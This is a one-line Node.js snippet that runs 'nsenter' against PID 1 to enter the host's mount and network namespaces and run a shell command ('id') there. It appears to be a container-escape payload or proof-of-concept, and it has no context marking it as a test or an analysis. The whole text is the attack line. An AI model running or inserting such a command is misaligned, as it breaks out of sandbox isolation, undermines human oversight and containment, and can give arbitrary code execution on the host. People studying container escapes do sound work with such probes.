require('child_process').execSync('nsenter --target 1 --mount --net -- sh -c id');
